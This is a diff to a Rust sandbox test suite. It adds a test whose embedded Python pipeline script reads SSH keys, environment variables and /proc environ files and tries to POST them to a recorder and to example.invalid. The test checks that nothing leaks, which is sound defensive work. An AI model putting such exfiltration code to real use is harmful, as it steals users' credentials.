@@ -19,7 +19,10 @@ use std::{
 
 use rustix::process::{Pid, Signal, kill_process};
 
-use super::hm::{Ended, Project, eventually};
+use super::{
+    hm::{Ended, Project, eventually},
+    recorder::Recorder,
+};
 use crate::{
     backends::usable,
     sandbox::harness::{is_asleep, is_running, marker},
@@ -231,6 +234,46 @@ fn a_pipeline_reaches_no_network_and_no_socket() {
         listener.set_nonblocking(true).unwrap();
         assert!(listener.accept().is_err());
     }
+}
+
+/// Beside `untrusted::nothing_leaves_an_untrusted_checkout`, whose pipelines are no code.
+#[test]
+fn no_command_lets_a_pipeline_send_what_the_user_has() {
+    const SECRET: &str = "s3cret-of-the-user";
+    let Some(hostile) = Hostile::new() else { return };
+    let recorder = Recorder::start();
+    fs::write(hostile.around.path().join("home/.ssh/id_rsa"), SECRET).unwrap();
+    // A step without an isolated network could talk to the recorder.
+    let steps = hostile.around.path().join("packages/harmont/__init__.py");
+    let quiet = HARMONT.replace("\"cmd\": \"true\"", "\"cmd\": \"true\", \"runner_args\": {\"network\": \"none\"}");
+    fs::write(steps, quiet).unwrap();
+    hostile.script(&format!(
+        "import json, urllib.request\n\
+         found = [json.dumps(dict(os.environ))]\n\
+         for path in ({:?}, '/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline'):\n    \
+             try: found.append(open(path).read())\n    \
+             except OSError as error: found.append(str(error))\n\
+         for url in ('http://{at}/direct', 'http://example.invalid/by-a-proxy'):\n    \
+             try: urllib.request.urlopen(url, data=''.join(found).encode(), timeout=5)\n    \
+             except OSError: print('not sent', file=sys.stderr)\n\
+         print(''.join(found), file=sys.stderr)\n\
+         harmont.pipeline('ci')",
+        hostile.around.path().join("home/.ssh/id_rsa"),
+        at = recorder.address(),
+    ));
+    for args in [&["pipelines"][..], &["render", "ci"], &["plan", "ci"], &["run", "ci"], &["runners"], &["doctor"]] {
+        let mut hm = hostile.hm(args);
+        hm.env("HM_REMOTE_HEADER", format!("authorization: Bearer {SECRET}")).env("TOKEN", SECRET);
+        for proxy in ["http_proxy", "https_proxy", "all_proxy"] {
+            hm.env(proxy, format!("http://{}", recorder.address()));
+        }
+        let ended = Ended::of(&mut hm);
+        let renders = !matches!(args[0], "runners" | "doctor");
+        assert_eq!(ended.stderr.matches("not sent\n").count(), if renders { 2 } else { 0 }, "{args:?}: {ended:?}");
+        assert!(!renders || ended.code == Some(0), "{args:?}: {ended:?}");
+        assert!(!(ended.stderr + &ended.stdout).contains(SECRET), "{args:?}");
+    }
+    assert_eq!(recorder.take(), [""; 0]);
 }
 
 #[test]
